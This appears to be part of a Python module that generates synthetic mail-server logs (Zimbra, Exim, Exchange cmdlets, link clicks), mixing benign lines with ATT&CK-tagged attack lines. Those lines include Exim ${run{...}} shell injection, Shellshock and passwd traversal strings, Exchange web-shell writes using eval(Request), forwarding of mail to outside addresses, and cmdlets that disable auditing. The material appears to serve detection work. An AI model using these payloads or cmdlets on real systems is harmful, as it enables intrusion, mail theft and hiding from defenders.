audit ;; cmd=«ModifyPrefs; name=‹me›; zimbraPrefMailForwardingAddress=‹junk›@«gmail.com|proton.me|«domain»»; zimbraPrefMailLocalDeliveryDisabled=TRUE|ModifyFilterRules; account=‹me›; rule=«.|x|a»; «redirect ‹junk›@«domain»|fileinto Junk; stop if subject contains «invoice|payment|hacked|phish»»|ModifyAccount; name=«‹mate›|ceo@«sitedomain»»; zimbraMailForwardingAddress=‹junk›@«domain»; zimbraFeatureMailForwardingEnabled=TRUE|ChangePassword; account=‹me›; oip=‹away›; ua=«python-requests/2.31|Go-http-client/1.1»|CreateAppSpecificPassword; account=‹me›; appName=‹junk›; oip=‹away›|GrantPermission; account=‹mate›; grantee=‹junk›@«domain»; right=sendAs»;
# T1110 zimbra passwords guessed
audit ;; cmd=Auth; account=‹guess›@«sitedomain»; protocol=«soap|imap|smtp|http_basic»; error=authentication failed for [‹guess›], «account not found|invalid password|account lockout|account(or domain) status is locked»; oip=‹away›;
audit ;; cmd=AdminAuth; account=«admin|zimbra|‹guess›»; error=authentication failed for [admin], «invalid password|not an admin account»; oip=‹away›; ua=«zclient/8.8|python-requests/2.«num:20:31»|Mozilla/5.0»;
"""
_EXIM = r"""
# exim carries mail
<= «‹partner›|‹me›|<>» H=«‹mx›|(«workstation»)» [‹in›] P=«esmtps X=TLS1.3:TLS_AES_256_GCM_SHA384:256 CV=no|esmtpsa A=dovecot_plain:‹me›|esmtp» S=‹size› id=«guid»@«domain» T="«Re: |»«Word» «word» «num:1:99»" for «‹me›|‹partner›»
=> «‹me›|‹partner›» R=«dnslookup|virtual_user|localuser» T=«remote_smtp|dovecot_lmtp|virtual_userdelivery» H=‹mx› [«peer»] X=TLS1.3:TLS_AES_256_GCM_SHA384:256 CV=yes C="250 OK id=«mixed:6»-«mixed:6»-«mixed:2»"
«Completed|== ‹partner› R=dnslookup T=remote_smtp defer (110): Connection timed out H=‹mx› [«peer»]|** «first»@«domain» R=dnslookup T=remote_smtp H=‹mx› [«peer»]: SMTP error from remote mail server after RCPT TO: 550 No such user here|Frozen (delivery error message)|Message is frozen»
H=‹mx› [«peer»] «F=<‹partner›> temporarily rejected RCPT <‹me›>: Greylisted, retry in «num:60:600» seconds|F=<‹partner›> rejected RCPT <«first»@«sitedomain»>: No Such User Here|sender verify defer for <‹partner›>: host lookup did not complete|rejected after DATA: message too big: read=‹size› max=52428800|incomplete transaction (RSET) from <‹partner›>»
«dovecot_plain|dovecot_login|plain_server» authenticator failed for («workstation») [‹in›]: 535 Incorrect authentication data (set_id=«‹me›|«person»|«svc»»)
«no host name found for IP address «peer»|SMTP connection from [«peer»] closed by QUIT|Start queue run: pid=«num:300:9999»|TLS error on connection from ‹mx› [«peer»] (SSL_accept): error:14094416|unexpected disconnection while reading SMTP command from ‹mx› [«peer»] D=«num:1:300»s»
H=(«workstation») [«ip2»] F=<«svc»@«linux»> rejected RCPT <‹partner›>: relay not permitted
rejected «EHLO|HELO» from [‹in›]: syntactically invalid argument(s): «HP_Printer_«num:1:9»|mfp_«word»|«word»_«word»|localhost.localdomain_»
SMTP «syntax error in "«NOOP|QUIT |HELO»" H=‹mx› [‹in›] unrecognized command|call from ‹mx› [‹in›] dropped: too many syntax or protocol errors (last command was "?")|protocol error in "AUTH PLAIN" H=«workstation» [«ip2»] AUTH command used when not advertised»
<= news@«sitedomain» U=«www-data|mailman» P=local S=‹size› T="«Our «Word» newsletter|Invitation to «city»|Your order «num:1000:99999»|Reset your password|Welcome»" for ‹partner› ‹partner› ‹partner›
=> ¦«/usr/lib/mailman/mail/mailman post «word»|/usr/bin/procmail -d «person»|/opt/rt/bin/rt-mailgate --queue «word»|/usr/bin/vacation «person»» <‹me›> R=system_aliases T=address_pipe
# T1190 exim exploited
H=(«‹junk›|localhost|ylmf-pc|«workstation»») [‹away›] F=<«‹junk›@«domain»|root@localhost|${run{/bin/sh -c "‹run›"}}@«sitedomain»»> rejected RCPT <«${run{\x2Fbin\x2Fsh\t-c\t\x22«hex:24»\x22}}|${run{‹run›}}|root+${run{‹run›}}|${readsocket{inet:«peer»:80}}»@«localhost|«sitedomain»»>: relay not permitted
«rejected «EHLO|HELO» from [‹away›]: syntactically invalid argument(s): «${run{‹run›}}|«hex:40»|() { :;}; ‹run›|../../etc/passwd»|SMTP syntax error in "«\026\003\001|GET / HTTP/1.1|AUTH «hex:12»==|BDAT «num:2:9»\240|MAIL FROM:<>\r AUTH=«hex:8»»" H=[‹away›] «unrecognized command|malformed address»|SMTP call from ‹name› [‹away›] dropped: too many «unrecognized commands (last was "«GET / HTTP/1.0|Accept: */*|Host: «ip2»»")|nonmail commands (last was "«RSET|NOOP|AUTH»")|syntax or protocol errors (last command was "«hex:6»")»»
=> ¦«/bin/sh -c "‹run›"|/usr/bin/perl -e «letters:4»» <‹me›> R=«userforward|system_aliases|central_filter» T=address_pipe
# T1110 exim passwords guessed
«dovecot_plain|dovecot_login|plain_server|login_server|fixed_login» authenticator failed for «(«‹junk›|User|ADMIN|WIN-«HEX:11»|«workstation»»)|‹name›» [‹away›]: 535 Incorrect authentication data (set_id=‹guess›«|||@«sitedomain»»)
H=‹name› [‹away›] «temporarily rejected connection in "connect" ACL: "Host is ratelimited («num:60:900».1/1h max:«num:20:60»)"|rejected AUTH: too many failures from this host|SMTP protocol error in "AUTH LOGIN" LOGIN authentication mechanism not supported|incomplete transaction (connection lost) after AUTH»
# T1586.002 exim mailboxes sending in bursts
<= «‹me›|info@«sitedomain»|www-data@«linux»» «H=‹name› [«pub»] P=esmtpsa A=dovecot_login:«‹me›|info@«sitedomain»»|U=www-data P=local» S=‹size› T="«Re: your account|hello dear|Payment|You have won|Invoice «num:1000:9999»|Verify your mailbox|Crypto bonus»" for «letters:7»@«gmail.com|yahoo.com|aol.com|hotmail.com» «letters:6»@«yahoo.com|«domain»» «letters:6»@«domain» «letters:5»@«domain»
«Domain «sitedomain» has exceeded the max emails per hour («num:500:9000»/«num:200:500» (200%)) allowed.  Message discarded.|** «letters:6»@«yahoo.com|gmail.com|outlook.com»: SMTP error from remote mail server after end of data: 550 5.7.1 «Message rejected as spam|[«ip2»] Our system has detected that this message is likely unsolicited»|Sender rate «num:500:9000».0 / 1h: user ‹me› frozen by hourly limit|H=‹name› [«pub»] sender ‹me› authenticated as ‹mate› F=<‹me›> accepted»
# T1584.004 exim tried as a relay
H=«‹name›|(«WIN-«HEX:11»|«ip2»»)» [‹away›] F=<«‹guess›@«sitedomain»|spameri@tiscali.it|«letters:6»@«domain»»> rejected RCPT <«letters:6»«num:1:99»@«gmail.com|yahoo.com|163.com»>: «relay not permitted|Relaying denied: authentication required»
H=‹name› [‹away›] «rejected «VRFY|EXPN» «root|postmaster|admin|«first»»|F=<«letters:6»@«domain»> rejected RCPT <«first»«num:1:99»@«sitedomain»>: Unrouteable address (recipient «num:10:400» of this call)|rejected ETRN #smtpuser: host not in ACL»
"""
_CMDLETS = r"""
# cmdlets of exchange administrators
New-Mailbox ;; {"UserPrincipalName":"«first».«last»@«sitedomain»","Name":"«First» «Last»","Database":"DB0«num:1:9»","Password":"System.Security.SecureString"}
Set-Mailbox ;; {"Identity":"«other»","«ProhibitSendQuota|IssueWarningQuota|ArchiveQuota»":"«num:5:100»GB"«,"HiddenFromAddressListsEnabled":true|,"GrantSendOnBehalfTo":"«person»"|,"RetentionPolicy":"Default"|,"LitigationHoldEnabled":true|,"EmailAddresses":"SMTP:«other»@«sitedomain»"|»}
Set-Mailbox ;; {"Identity":"«other»","ForwardingAddress":"«person»@«sitedomain»","DeliverToMailboxAndForward":true}
Add-MailboxPermission ;; {"Identity":"«accounting|sales|info|room-«num:1:20»»","User":"«netbios»\\«person»","AccessRights":"«FullAccess|ReadPermission»","AutoMapping":«true|false»}
«Add|Remove»-DistributionGroupMember ;; {"Identity":"«dept»-«word»","Member":"«other»"}
New-MailboxExportRequest ;; {"Mailbox":"«other»","FilePath":"\\\\«server»\\pst$\\«other»_«date».pst","Name":"leaver «num:1000:9999»"}
New-TransportRule ;; {"Name":"«Disclaimer|External banner|Block executables|Encrypt to «word»»","«ApplyHtmlDisclaimerText|PrependSubject|RejectMessageReasonText»":"«External: |This message is confidential|Not allowed»","FromScope":"«NotInOrganization|InOrganization»"}
Set-«ReceiveConnector|SendConnector» ;; {"Identity":"«server»\\«Client Frontend|Relay printers|Outbound»","«MaxMessageSize":"35MB|RemoteIPRanges":"«ip2»|ProtocolLoggingLevel":"Verbose|SmartHosts":"«tech».«sitedomain»»"}
Set-MailboxAutoReplyConfiguration ;; {"Identity":"«other»","AutoReplyState":"«Enabled|Scheduled|Disabled»","InternalMessage":"I am on leave"}
New-InboxRule ;; {"Name":"«Newsletters|«Word»|Jira|From «First»»","«MoveToFolder":"Inbox\\«Word»|MarkAsRead":true,"From":"jira@«sitedomain»|ForwardTo":"«other»@«sitedomain»»"«,"SubjectContainsWords":"«word»"|»}
«Get-Mailbox|Get-MailboxStatistics|Get-MessageTrackingLog|Search-AdminAuditLog|Test-ServiceHealth|Get-Queue|Move-ActiveMailboxDatabase|New-MoveRequest|Set-CASMailbox» ;; {"Identity":"«other»","«ResultSize":"Unlimited"|TargetDatabase":"DB0«num:1:9»"|ActiveSyncEnabled":false»}
# cmdlets with a reason
Set-Mailbox ;; {"Identity":"«info|sales|leaver-«other»|«other»»","ForwardingSmtpAddress":"smtp:«first».«last»@«domain»","DeliverToMailboxAndForward":true,"Notes":"@ticket@"}
New-ManagementRoleAssignment ;; {"Role":"«ApplicationImpersonation|Mailbox Search|Mail Recipients|View-Only Recipients|Mailbox Import Export»","«User|SecurityGroup»":"«svc»","Name":"«backup|archive|migration|crm»-«word»"}
New-TransportRule ;; {"Name":"«Compliance copy|Archive «dept»|Quarantine «word»»","«BlindCopyTo|RedirectMessageTo|AddToRecipients»":"archive@«sitedomain»","«SentTo|From»":"«dept»@«sitedomain»"}
New-JournalRule ;; {"Name":"Archive","JournalEmailAddress":"journal@«archive.|»«sitedomain»","Scope":"Global","Enabled":true}
Search-Mailbox ;; {"Identity":"«other»","SearchQuery":"subject:\"«Invoice|Re: «word»|Shared document»\" from:«domain»","«DeleteContent":true|TargetMailbox":"ediscovery@«sitedomain»"|LogOnly":true»}
«New-MailboxSearch|New-ComplianceSearch» ;; {"Name":"@ticket@","SourceMailboxes":"«other»","SearchQuery":"«invoice|contract|«word» project»","TargetMailbox":"legal@«sitedomain»"}
«Remove-Mailbox|Disable-Mailbox|Remove-MailboxExportRequest|Remove-InboxRule|Clear-MobileDevice|Disable-TransportRule» ;; {"Identity":"«other»","Confirm":«false|true»}
Set-«HostedContentFilterPolicy|AntiPhishPolicy|MalwareFilterPolicy» ;; {"Identity":"«Default|Executives»","«AllowedSenderDomains":"«domain»"|BlockedSenders":"«letters:6»@«domain»"|EnableSpoofIntelligence":true|FileTypes":"iso,img,lnk,vbs"»}
New-InboxRule ;; {"Name":"«Private|Alerts|Invoices|Cc me»","«ForwardTo":"«other»@«sitedomain»"|MoveToFolder":"«Archive|Invoices|Alerts»"|DeleteMessage":true»,"SubjectOrBodyContainsWords":"«invoice|backup successful|newsletter|unsubscribe|jira»"}
Add-MailboxFolderPermission ;; {"Identity":"«other»:\\«Calendar|Inbox|Contacts»","User":"«person»@«sitedomain»","AccessRights":"«Editor|Reviewer|Owner»"}
New-«ReceiveConnector|InboundConnector» ;; {"Name":"«Relay «word»|Printers|«Word» gateway»","RemoteIPRanges":"«ip2»","PermissionGroups":"AnonymousUsers","Usage":"Custom"}
Set-«AdminAuditLogConfig|OrganizationConfig|Mailbox» ;; {"Identity":"«other»","«AdminAuditLogAgeLimit":"180.00:00:00"|AuditEnabled":true|AuditLogAgeLimit":"365.00:00:00"|AuditDisabled":false»}
# T1505.003 cmdlets that write pages
New-MailboxExportRequest ;; {"Mailbox":"«administrator|«other»»","FilePath":"\\\\«127.0.0.1|localhost|«server»»\\c$\\«inetpub\\wwwroot\\aspnet_client\\‹junk›.aspx|Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\‹junk›.aspx|Windows\\Temp\\‹junk›.aspx»","IncludeFolders":"#Drafts#","ContentFilter":"Subject -eq '‹junk›'"}
Set-OabVirtualDirectory ;; {"Identity":"OAB (Default Web Site)","ExternalUrl":"http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"‹junk›\"],\"unsafe\");}</script>"}
Remove-MailboxExportRequest ;; {"Identity":"«other»\\‹junk›","Confirm":false,"Force":true}
New-ExchangeCertificate ;; {"GenerateRequest":true,"BinaryEncoded":true,"RequestFile":"\\\\localhost\\c$\\inetpub\\wwwroot\\aspnet_client\\‹junk›.aspx","SubjectName":"CN=<%eval request(1)%>"}
# T1114.003 cmdlets that hand mail on
Set-Mailbox ;; {"Identity":"«ceo|cfo|accounting|«other»»","ForwardingSmtpAddress":"smtp:‹junk›@«gmail.com|proton.me|mail.ru|«domain»»","DeliverToMailboxAndForward":«true|true|false»}
New-InboxRule ;; {"Name":"«.|..|x|a|‹junk›|rss»","«ForwardTo|RedirectTo|ForwardAsAttachmentTo»":"‹junk›@«gmail.com|proton.me|outlook.com|«domain»»","StopProcessingRules":true}
New-InboxRule ;; {"Name":"«.|,|‹junk›»","SubjectOrBodyContainsWords":"«invoice;payment;wire;iban|hacked;phishing;virus;spam|MFA;password;code|payroll;direct deposit»","«MoveToFolder":"«RSS Feeds|RSS Subscriptions|Conversation History|Archive»"|DeleteMessage":true»,"MarkAsRead":true}
New-TransportRule ;; {"Name":"‹junk›","«BlindCopyTo|RedirectMessageTo|AddToRecipients»":"‹junk›@«domain»","«SentTo":"ceo@«sitedomain»|SubjectOrBodyContainsWords":"«acquisition|bank|password»»"}
New-JournalRule ;; {"Name":"‹junk›","JournalEmailAddress":"‹junk›@«domain»","Scope":"«Global|External»","Enabled":true}
# T1098.002 cmdlets that open mailboxes
Add-MailboxPermission ;; {"Identity":"«ceo|cfo|legal|board|«admin»»","User":"«netbios»\\«‹junk›|«user»|Everyone|HealthMailbox«hex:7»»","AccessRights":"FullAccess","AutoMapping":false}
New-ManagementRoleAssignment ;; {"Role":"«ApplicationImpersonation|Mailbox Import Export|Mailbox Search|Organization Management»","«User|SecurityGroup»":"«admin»","Name":"‹junk›"}
Add-«MailboxFolderPermission|RecipientPermission» ;; {"Identity":"«ceo|cfo|«other»»:\\Inbox","User":"«Default|Anonymous|‹junk›@«domain»»","AccessRights":"«Owner|ReadItems|SendAs»"}
New-MailboxSearch ;; {"Name":"‹junk›","SourceMailboxes":"«all|ceo,cfo,legal»","SearchQuery":"«password OR vpn|passport OR iban|invoice AND wire|incident OR breach»","TargetMailbox":"«user»","ExcludeDuplicateMessages":false}
New-MailboxExportRequest ;; {"Mailbox":"«ceo|cfo|legal|«admin»»","FilePath":"\\\\«ip2»\\«c$\\Windows\\Temp|c$\\PerfLogs|share»\\‹junk›.pst"«,"ContentFilter":"Received -gt '«date:%m/%d/%Y»'"|»}
# T1562.008 cmdlets that blind the watchers
«Set-AdminAuditLogConfig ;; {"AdminAuditLogEnabled":false}|Set-Mailbox ;; {"Identity":"«other»","AuditEnabled":false}|Set-MailboxAuditBypassAssociation ;; {"Identity":"«user»","AuditBypassEnabled":true}|Remove-TransportRule ;; {"Identity":"«External banner|Block executables»","Confirm":false}|Set-OrganizationConfig ;; {"AuditDisabled":true}|Disable-JournalRule ;; {"Identity":"Legal hold","Confirm":false}»
«Set-MalwareFilterPolicy ;; {"Identity":"Default","BypassInboundMessages":true,"BypassOutboundMessages":true}|Set-HostedContentFilterPolicy ;; {"Identity":"Default","AllowedSenderDomains":"«letters:8».«top|xyz|com»"}|Disable-AntiPhishRule ;; {"Identity":"Executives","Confirm":false}|New-TransportRule ;; {"Name":"‹junk›","SetSCL":-1,"SenderDomainIs":"«letters:8».«top|xyz|com»"}|Disable-SafeLinksRule ;; {"Identity":"All","Confirm":false}|Set-TransportAgent ;; {"Identity":"Malware Agent","Enabled":false}»
«Set-ReceiveConnector ;; {"Identity":"«server»\\Default Frontend","PermissionGroups":"AnonymousUsers","ExtendedRight":"Ms-Exch-SMTP-Accept-Any-Recipient"}|New-ReceiveConnector ;; {"Name":"‹junk›","RemoteIPRanges":"0.0.0.0-255.255.255.255","PermissionGroups":"AnonymousUsers","Usage":"Custom"}|New-InboundConnector ;; {"Name":"‹junk›","SenderIPAddresses":"«pub»","ConnectorType":"OnPremises","CloudServicesMailEnabled":true}|Install-TransportAgent ;; {"Name":"‹junk›","TransportAgentFactory":"‹junk›.Factory","AssemblyPath":"C:\\Windows\\Temp\\‹junk›.dll"}»
«Search-Mailbox ;; {"Identity":"«other»","SearchQuery":"subject:«phish|invoice|password reset»","DeleteContent":true,"Force":true}|Remove-Mailbox ;; {"Identity":"«other»","Permanent":true,"Confirm":false}|Set-RetentionPolicyTag ;; {"Identity":"Deleted Items","AgeLimitForRetention":"1.00:00:00","RetentionAction":"PermanentlyDelete"}|Clear-MobileDevice ;; {"Identity":"«other»","Confirm":false}»
"""
_CLICKS = r"""
# links followed by day
Allowed ;; «https://«known»/«word»/«mixed:8»|https://www.«domain»/«word»|https://«siteword».sharepoint.com/sites/«dept»/«mixed:12»|https://click.«domain»/«mixed:20»|https://«known»/d/«mixed:16»|https://zoom.us/j/«num:100000000:9999999999»|https://«tech».«sitedomain»/«word»|https://bit.ly/«mixed:7»» ;; «-|https://www.«domain»/«word»»
«Allowed|Blocked» ;; «https://www.«domain»/«shop|sale|unsubscribe»?u=«hex:12»|http://«domain»/«word».html|https://«known»/login?next=«word»» ;; «marketing|newsletter|gambling category|social media policy|-»
Allowed ;; «https://«word».«web.app|github.io|pages.dev|netlify.app»/«word»|http://«domain»/«login|verify|account»?ref=«word»|https://bit.ly/«mixed:7»|https://login.microsoftonline.com/common/oauth2/authorize?client_id=«guid»&redirect_uri=https%3A%2F%2F«tech».«sitedomain»|https://sso.«sitedomain»/login|https://«word».«xyz|online|site|info»/«word»» ;; «-|https://«tinyurl.com|t.co|bit.ly»/«mixed:7»»
# T1204.001 links to false logins followed
«Allowed|Allowed|ClickedThrough» ;; https://«letters:6:14».«top|xyz|icu|click|online|web.app|pages.dev|workers.dev|weebly.com»/«login|auth|owa|o365|verify|index.php»«?e=«person»@«sitedomain»|#«b64:24»|/«hex:10»» ;; «-|phish|https://«bit.ly|is.gd|tinyurl.com»/«mixed:6»»
«Allowed|ClickedThrough|Blocked|PendingDetonationPage» ;; «http://«peer»/«letters:3:6»/«login.php|doc.zip|invoice.iso|setup.msi»|https://«domain»/wp-content/«letters:4»/«office|docs|dhl».«html|php»|https://LOOKALIKE/«sso|webmail|login»|https://login.microsoftonline.com/common/oauth2/authorize?client_id=«guid»&redirect_uri=https%3A%2F%2F«letters:8».«xyz|site»|https://drive.«letters:5».«top|click»/«letters:8».zip» ;; «phish|malware|credential phishing|-»
"""


def _tables(text: str) -> dict[str, tuple[Scenario, ...]]:
    return {part.partition("\n")[0].strip(): table(part.partition("\n")[2]) for part in phrased(written(text, _FRAGMENTS)).split("@@ ") if part.strip()}


DAEMONS: dict[str, tuple[Scenario, ...]] = _tables(_TEXT)
ZIMBRA, EXIM, CMDLETS, CLICKS = (table(phrased(written(text, _FRAGMENTS))) for text in (_ZIMBRA, _EXIM, _CMDLETS, _CLICKS))
